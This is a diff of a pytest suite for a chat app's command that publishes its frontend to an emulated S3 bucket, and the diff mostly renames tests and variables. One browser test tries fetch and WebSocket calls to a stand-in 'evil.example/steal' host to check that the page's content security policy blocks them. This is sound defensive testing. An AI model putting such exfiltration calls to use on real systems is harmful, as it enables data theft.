@@ -1,11 +1,11 @@
-"""`cloudchat frontend publish` into an emulated bucket, and the page as a person opens it from there."""
+"""`cloudchat frontend publish` into an emulated bucket, and the page that a browser opens from there."""
 
 import json
 import re
 import secrets
 import subprocess
 import sys
-from collections.abc import Callable, Iterator
+from collections.abc import Callable
 from dataclasses import dataclass
 from pathlib import Path
 from typing import Any
@@ -22,21 +22,15 @@ from support.server import CLOUDCHAT, RunningServer, environment_of
 
 API = "https://chat.example.com"
 PAGE = "https://www.example.com"
-ANY = "s3://a-bucket"
+ANY_BUCKET = "s3://a-bucket"
 PUBLISH = ("frontend", "publish")
 
 Publish = Callable[..., None]
 
 
-@pytest.fixture(scope="module")
-def aws() -> Iterator[EmulatedAws]:
-    with EmulatedAws() as running:
-        yield running
-
-
 @dataclass
 class Bucket:
-    """An empty bucket."""
+    """An S3 bucket that is empty at first."""
 
     aws: EmulatedAws
     s3: Any
@@ -50,15 +44,15 @@ class Bucket:
     def put(self, key: str, content: bytes) -> None:
         self.s3.put_object(Bucket=self.name, Key=key, Body=content)
 
-    def held(self) -> set[str]:
+    def object_keys(self) -> set[str]:
         return {item["Key"] for item in self.s3.list_objects_v2(Bucket=self.name).get("Contents", ())}
 
     def writes(self) -> list[str]:
-        """The keys in the order in which they were written, as S3's own log tells."""
+        """Return the written keys in the order in which S3's log has them."""
         return re.findall(rf'"PUT /{self.name}/(\S+) HTTP', self.aws.log)
 
-    def let_everybody_read(self) -> None:
-        """As config/aws/cloudchat.yaml does with FrontendHosting=website."""
+    def make_public(self) -> None:
+        """Let everybody read, like config/aws/cloudchat.yaml with FrontendHosting=website."""
         objects = f"arn:aws:s3:::{self.name}/*"
         everybody = {"Effect": "Allow", "Principal": "*", "Action": "s3:GetObject", "Resource": objects}
         policy = {"Version": "2012-10-17", "Statement": [everybody]}
@@ -74,7 +68,7 @@ def bucket(aws: EmulatedAws) -> Bucket:
 
 @pytest.fixture
 def publish(aws: EmulatedAws, monkeypatch: pytest.MonkeyPatch) -> Publish:
-    """Runs the command in this process, as it is without a process's start a few times faster; must end well."""
+    """Run the command in this process, which is several times faster than a new one. It must succeed."""
     for name, value in aws.environment.items():
         monkeypatch.setenv(name, value)
 
@@ -94,28 +88,28 @@ def publish_by_command(aws: EmulatedAws, *arguments: str) -> None:
     )
 
 
-def test_every_object_has_the_headers_that_a_browser_needs(aws: EmulatedAws, bucket: Bucket, publish: Publish) -> None:
+def test_objects_have_content_type_and_cache_headers(aws: EmulatedAws, bucket: Bucket, publish: Publish) -> None:
     publish(bucket.target, "--api", API)
-    bucket.let_everybody_read()
+    bucket.make_public()
     with httpx.Client(base_url=f"{bucket.url}/", verify=False) as http:
-        seen = {key: http.get(key) for key in bucket.held()}
-    page, config = seen.pop("index.html"), seen.pop("config.json")
+        responses = {key: http.get(key) for key in bucket.object_keys()}
+    page, config = responses.pop("index.html"), responses.pop("config.json")
     assert page.headers["content-type"] == "text/html; charset=utf-8"
     assert config.headers["content-type"] == "application/json"
     assert page.headers["cache-control"] == config.headers["cache-control"] == "no-cache"
     assert config.json() == {"api": API, "socket": "wss://chat.example.com"}
     types = {".js": "text/javascript; charset=utf-8", ".css": "text/css; charset=utf-8", ".svg": "image/svg+xml"}
-    for key, answer in seen.items():
-        assert answer.headers["content-type"] == types[Path(key).suffix]
-        assert answer.headers["cache-control"] == "public, max-age=31536000, immutable"
+    for key, response in responses.items():
+        assert response.headers["content-type"] == types[Path(key).suffix]
+        assert response.headers["cache-control"] == "public, max-age=31536000, immutable"
 
 
-def test_a_dry_run_writes_nothing(bucket: Bucket, publish: Publish) -> None:
+def test_dry_run_writes_nothing(bucket: Bucket, publish: Publish) -> None:
     publish(bucket.target, "--api", API, "--dry-run", "--delete", "--distribution", "E2NONE")
     assert bucket.writes() == []
 
 
-def test_the_page_comes_last_and_a_second_publish_writes_nothing(bucket: Bucket, publish: Publish) -> None:
+def test_index_is_written_last_and_a_second_publish_writes_nothing(bucket: Bucket, publish: Publish) -> None:
     publish(bucket.target, "--api", API)
     first = bucket.writes()
     assert first[-2:] == ["config.json", "index.html"]
@@ -126,17 +120,17 @@ def test_the_page_comes_last_and_a_second_publish_writes_nothing(bucket: Bucket,
     assert bucket.writes()[len(first) :] == ["config.json", "index.html"]
 
 
-def test_below_a_prefix_nothing_else_is_touched(bucket: Bucket, publish: Publish) -> None:
+def test_publish_below_a_prefix_changes_nothing_else(bucket: Bucket, publish: Publish) -> None:
     bucket.put("index.html", b"another page")
     bucket.put("chat/release-0000000000000000/script.js", b"an old release")
     bucket.put("chat/robots.txt", b"by hand")
     publish(f"{bucket.target}/chat/", "--api", API, "--delete")
-    assert {"index.html", "chat/index.html", "chat/robots.txt"} <= bucket.held()
-    assert "chat/release-0000000000000000/script.js" not in bucket.held()
+    assert {"index.html", "chat/index.html", "chat/robots.txt"} <= bucket.object_keys()
+    assert "chat/release-0000000000000000/script.js" not in bucket.object_keys()
     assert bucket.writes().count("index.html") == 1
 
 
-def test_cloudfront_is_told_once_and_only_of_what_changed(aws: EmulatedAws, bucket: Bucket, publish: Publish) -> None:
+def test_cloudfront_invalidates_only_changed_objects(aws: EmulatedAws, bucket: Bucket, publish: Publish) -> None:
     cloudfront = aws.client("cloudfront")
     origin = {
         "Id": "s3",
@@ -154,74 +148,74 @@ def test_cloudfront_is_told_once_and_only_of_what_changed(aws: EmulatedAws, buck
     )["Distribution"]["Id"]
     for _ in range(2):
         publish(bucket.target, "--api", API, "--distribution", distribution)
-    (told,) = cloudfront.list_invalidations(DistributionId=distribution)["InvalidationList"]["Items"]
-    batch = cloudfront.get_invalidation(DistributionId=distribution, Id=told["Id"])["Invalidation"]["InvalidationBatch"]
-    assert set(batch["Paths"]["Items"]) == {"/", "/index.html", "/config.json"}
+    (invalidation,) = cloudfront.list_invalidations(DistributionId=distribution)["InvalidationList"]["Items"]
+    details = cloudfront.get_invalidation(DistributionId=distribution, Id=invalidation["Id"])["Invalidation"]
+    assert set(details["InvalidationBatch"]["Paths"]["Items"]) == {"/", "/index.html", "/config.json"}
 
 
 @pytest.mark.parametrize(
-    ("arguments", "changed", "named"),
+    ("arguments", "environment", "expected"),
     [
         (("s3://no-such-bucket-here",), {}, "no-such-bucket-here"),
         (("https://bucket",), {}, "s3://bucket"),
-        ((ANY, "--api", "chat.example.com"), {}, "https://chat.example.com"),
-        ((ANY,), {"AWS_ENDPOINT_URL": "http://127.0.0.1:9"}, "127.0.0.1:9"),
-        ((ANY,), {"AWS_ACCESS_KEY_ID": "", "AWS_SECRET_ACCESS_KEY": ""}, "AWS_PROFILE"),
-        ((ANY,), {"AWS_PROFILE": "nobody"}, "nobody"),
+        ((ANY_BUCKET, "--api", "chat.example.com"), {}, "https://chat.example.com"),
+        ((ANY_BUCKET,), {"AWS_ENDPOINT_URL": "http://127.0.0.1:9"}, "127.0.0.1:9"),
+        ((ANY_BUCKET,), {"AWS_ACCESS_KEY_ID": "", "AWS_SECRET_ACCESS_KEY": ""}, "AWS_PROFILE"),
+        ((ANY_BUCKET,), {"AWS_PROFILE": "nobody"}, "nobody"),
     ],
 )
-def test_what_cannot_be_done_is_one_line_that_names_the_mend(
+def test_error_is_one_line_that_says_how_to_fix_it(
     bucket: Bucket,
     publish: Publish,
     monkeypatch: pytest.MonkeyPatch,
     capfd: pytest.CaptureFixture[str],
     arguments: tuple[str, ...],
-    changed: dict[str, str],
-    named: str,
+    environment: dict[str, str],
+    expected: str,
 ) -> None:
-    for name, value in changed.items():
+    for name, value in environment.items():
         monkeypatch.setenv(name, value)
     assert main([*PUBLISH, *arguments]) == 1
-    (line,) = refusals_and_warnings(capfd, warnings=False)
-    assert named in line
+    (line,) = error_lines(capfd, warnings=False)
+    assert expected in line
 
 
-def test_without_boto3_the_extra_is_named(
+def test_error_without_boto3_names_the_extra_to_install(
     bucket: Bucket, publish: Publish, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
 ) -> None:
     monkeypatch.setitem(sys.modules, "boto3", None)  # as if it were not installed
     assert main([*PUBLISH, bucket.target]) == 1
-    (line,) = refusals_and_warnings(capfd, warnings=False)
+    (line,) = error_lines(capfd, warnings=False)
     assert "pip install '.[aws]'" in line
 
 
-def refusals_and_warnings(capfd: pytest.CaptureFixture[str], *, warnings: bool) -> list[str]:
+def error_lines(capfd: pytest.CaptureFixture[str], *, warnings: bool) -> list[str]:
     lines = capfd.readouterr().err.splitlines()
     return [line for line in lines if line.startswith("cloudchat: warning:") is warnings]
 
 
 @pytest.mark.parametrize(
-    ("page", "warned"), [(PAGE, 0), ("https://d111.cloudfront.net", 1), ("http://www.example.com", 1)]
+    ("page", "warnings"), [(PAGE, 0), ("https://d111.cloudfront.net", 1), ("http://www.example.com", 1)]
 )
-def test_a_page_that_the_cookie_does_not_reach_is_warned_about(
-    bucket: Bucket, publish: Publish, capfd: pytest.CaptureFixture[str], page: str, warned: int
+def test_warning_if_the_page_is_on_another_site_than_the_cookie(
+    bucket: Bucket, publish: Publish, capfd: pytest.CaptureFixture[str], page: str, warnings: int
 ) -> None:
     publish(bucket.target, "--dry-run", "--api", API, "--page", page)
-    assert len(refusals_and_warnings(capfd, warnings=True)) == warned
+    assert len(error_lines(capfd, warnings=True)) == warnings
 
 
-def test_the_page_in_the_bucket_chats_with_the_server_and_stays_signed_in(
+def test_page_in_the_bucket_chats_and_stays_signed_in_after_a_reload(
     aws: EmulatedAws,
     bucket: Bucket,
     person: Callable[[], ChatPage],  # noqa: F811
 ) -> None:
     with RunningServer(environment={"CLOUDCHAT_ALLOWED_ORIGINS": aws.url}) as server:
         publish_by_command(aws, f"{bucket.target}/chat", "--api", server.url, "--page", aws.url)
-        bucket.let_everybody_read()
+        bucket.make_public()
         page_url = f"{bucket.url}/chat/index.html"
         ada, grace = person(), person()
-        asked: list[str] = []
-        ada.page.on("request", lambda request: asked.append(request.url))
+        urls: list[str] = []
+        ada.page.on("request", lambda request: urls.append(request.url))
         ada.register(page_url, "ada")
         grace.register(page_url, "grace")
         ada.write("Hello from the bucket")
@@ -229,37 +223,37 @@ def test_the_page_in_the_bucket_chats_with_the_server_and_stays_signed_in(
         grace.write("I hear you")
         expect(ada.says("I hear you")).to_be_visible()
 
-        ada.page.reload()  # only the server's cookie knows ada now, and it is another origin's
+        ada.page.reload()  # only the cookie of the server, another origin, identifies ada now
         ada.is_connected()
         expect(ada.says("I hear you")).to_be_visible()
-        assert {url.split("/")[2] for url in asked} == {aws.url.split("/")[2], server.url.split("/")[2]}
+        assert {url.split("/")[2] for url in urls} == {aws.url.split("/")[2], server.url.split("/")[2]}
 
 
-def test_the_page_in_the_bucket_talks_to_nobody_else(
+def test_policy_of_the_page_in_the_bucket_blocks_other_hosts(
     bucket: Bucket,
     publish: Publish,
     browser: Browser,  # noqa: F811
 ) -> None:
     publish(bucket.target, "--api", API)
-    bucket.let_everybody_read()
+    bucket.make_public()
     page = browser.new_page()
     page.goto(f"{bucket.url}/index.html")
-    refused = page.evaluate(
+    blocked = page.evaluate(
         """async () => {
-          const refused = [];
-          addEventListener("securitypolicyviolation", (event) => refused.push(event.blockedURI));
+          const blocked = [];
+          addEventListener("securitypolicyviolation", (event) => blocked.push(event.blockedURI));
           for (const url of ["https://evil.example/steal", "https://chat.example.com.evil.example/steal"]) {
             await fetch(url).catch(() => {});
           }
           try { new WebSocket("wss://evil.example/steal"); } catch {}
-          return new Promise((resolve) => setTimeout(() => resolve(refused)));
+          return new Promise((resolve) => setTimeout(() => resolve(blocked)));
         }"""
     )
     page.close()
-    assert len(refused) == 3
+    assert len(blocked) == 3
 
 
-def test_a_page_of_an_origin_that_is_not_allowed_can_not_sign_in(
+def test_page_of_an_origin_that_is_not_allowed_cannot_sign_in(
     aws: EmulatedAws,
     bucket: Bucket,
     publish: Publish,
@@ -267,9 +261,9 @@ def test_a_page_of_an_origin_that_is_not_allowed_can_not_sign_in(
     person: Callable[[], ChatPage],  # noqa: F811
 ) -> None:
     publish(bucket.target, "--api", server.url)
-    bucket.let_everybody_read()
+    bucket.make_public()
     stranger = person()
     stranger.page.goto(f"{bucket.url}/index.html")
-    with stranger.page.expect_event("requestfailed"):  # the preflight, which no page can see
+    with stranger.page.expect_event("requestfailed"):  # the CORS preflight, which a page cannot observe
         stranger.sign_in("ada", PASSWORD)
     expect(stranger.alert.filter(visible=True)).to_have_count(1)
